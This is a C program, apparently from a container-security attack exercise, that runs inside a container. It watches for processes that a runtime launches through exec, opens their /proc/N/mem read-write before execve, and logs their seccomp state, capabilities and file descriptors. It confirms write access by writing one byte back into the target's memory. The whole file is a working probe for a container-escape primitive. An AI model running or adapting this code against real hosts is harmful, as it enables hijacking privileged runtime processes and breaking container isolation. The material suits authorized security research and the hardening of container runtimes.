/* (From the attack2 round, issue 14.) Container payload: watch for other processes appearing in the container (an engine's
 * `exec`) and try to open their /proc/N/mem read-write (PTRACE_MODE_ATTACH) while they
 * are still the runtime's launcher code (before execve), logging what it sees:
 * Seccomp mode, NoNewPrivs, CapEff and its fds (a seccomp listener among them?).
 * Usage: memwatch LOGFILE SECONDS */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
static int seen[65536];
static void grab(FILE *log, int pid) {
    char p[128], buf[4096];
    snprintf(p, sizeof p, "/proc/%d/mem", pid);
    int m = open(p, O_RDWR);
    if (m < 0) { if (seen[pid] != 1) { seen[pid] = 1; } return; }
    if (seen[pid] == 2) { close(m); return; }
    seen[pid] = 2;
    snprintf(p, sizeof p, "/proc/%d/status", pid);
    int s = open(p, O_RDONLY); ssize_t n = s >= 0 ? read(s, buf, sizeof buf - 1) : 0; if (s >= 0) close(s);
    buf[n > 0 ? n : 0] = 0;
    fprintf(log, "pid %d: /proc/%d/mem opened O_RDWR\n", pid, pid);
    for (char *l = strtok(buf, "\n"); l; l = strtok(NULL, "\n"))
        if (!strncmp(l, "Name", 4) || !strncmp(l, "Uid", 3) || !strncmp(l, "Seccomp:", 8) || !strncmp(l, "NoNewPrivs", 10) || !strncmp(l, "CapEff", 6))
            fprintf(log, "   %s\n", l);
    snprintf(p, sizeof p, "/proc/%d/fd", pid);
    DIR *d = opendir(p);
    if (d) { struct dirent *e; while ((e = readdir(d))) { if (e->d_name[0]=='.') continue; char q[300], l[256]; snprintf(q, sizeof q, "%s/%s", p, e->d_name); ssize_t k = readlink(q, l, sizeof l - 1); if (k < 0) k = 0; l[k] = 0; fprintf(log, "   fd %s -> %s\n", e->d_name, l);} closedir(d); }
    /* prove write access harmlessly: the first byte of its first rw-p mapping, read
       and written back unchanged through /proc/N/mem */
    snprintf(p, sizeof p, "/proc/%d/maps", pid);
    FILE *mf = fopen(p, "r");
    if (mf) {
        char line[512]; unsigned long lo = 0;
        while (fgets(line, sizeof line, mf)) if (strstr(line, " rw-p ")) { lo = strtoul(line, NULL, 16); break; }
        fclose(mf);
        unsigned char b; ssize_t r = lo ? pread(m, &b, 1, (off_t)lo) : -1;
        ssize_t w = r == 1 ? pwrite(m, &b, 1, (off_t)lo) : -1;
        fprintf(log, "   write-back at %#lx: read %zd write %zd (%s)\n", lo, r, w, w == 1 ? "WROTE into its memory" : strerror(errno));
    }
    fflush(log);
    close(m);
}
int main(int argc, char **argv) {
    FILE *log = fopen(argc > 1 ? argv[1] : "/tmp/memwatch.log", "w");
    int secs = argc > 2 ? atoi(argv[2]) : 60;
    time_t end = time(NULL) + secs;
    int me = getpid();
    fprintf(log, "memwatch pid %d\n", me); fflush(log);
    while (time(NULL) < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid > 1 && pid != me && pid < 65536) grab(log, pid);
        }
        closedir(d);
    }
    return 0;
}
